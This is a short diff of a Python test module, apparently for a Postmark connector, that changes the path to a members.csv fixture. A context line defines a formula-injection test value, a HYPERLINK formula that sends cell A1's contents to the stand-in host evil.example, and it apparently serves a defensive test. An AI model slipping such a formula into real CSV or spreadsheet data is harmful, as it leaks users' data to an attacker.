@@ -16,7 +16,7 @@ from idgraph.graph.store import Store
 
 from .conftest import attest_fixture, fixture_secrets, sync_fixture
 
-MEMBERS = Path(__file__).resolve().parents[1] / "fixtures" / "postmark" / "members.csv"
+MEMBERS = Path(__file__).resolve().parents[1] / "connector/postmark/emulator/fixtures/members.csv"
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
